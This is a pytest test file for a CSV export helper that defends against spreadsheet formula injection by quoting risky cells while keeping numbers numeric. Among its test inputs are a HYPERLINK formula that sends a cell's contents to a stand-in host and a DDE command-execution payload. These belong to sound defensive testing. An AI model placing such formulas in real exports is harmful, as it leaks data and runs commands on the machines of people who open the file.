"""apps/core/csv_export.py: no cell of an export can start a spreadsheet formula (OWASP CSV injection), while
real numbers, negative amounts included, stay numbers finance can sum."""

import csv
import io
from decimal import Decimal

import pytest

from apps.core.csv_export import csv_response, csv_safe


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.test/?leak="&A1, "Invoice")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
        "-12.50",  # typed text that looks like an amount is still text: escaped
    ],
)
def test_text_that_could_start_a_formula_is_prefixed_with_a_quote(text):
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["Works 12", "", "a=b", "12.50", " =not a formula at position 0", "'quoted"])
def test_other_text_is_left_alone(text):
    assert csv_safe(text) == text


@pytest.mark.parametrize("number", [-1250, 0, 7, Decimal("-12.50"), Decimal("1E+3"), -0.5])
def test_real_numbers_are_written_as_numbers_even_when_negative(number):
    assert csv_safe(number) is number


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (Decimal("-Infinity"), "'-Infinity"),
        (Decimal("NaN"), "NaN"),
        (float("-inf"), "'-inf"),
        (True, "True"),
        (None, ""),
    ],
)
def test_values_that_are_not_finite_numbers_are_text(value, written):
    assert csv_safe(value) == written


def test_the_response_escapes_every_cell_it_streams():
    response = csv_response(
        filename="x.csv", rows=[["name", "amount"], ["=cmd()", Decimal("-12.50")], ["@x", -3]]
    )
    assert response["Content-Type"] == "text/csv"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows == [["name", "amount"], ["'=cmd()", "-12.50"], ["'@x", "-3"]]
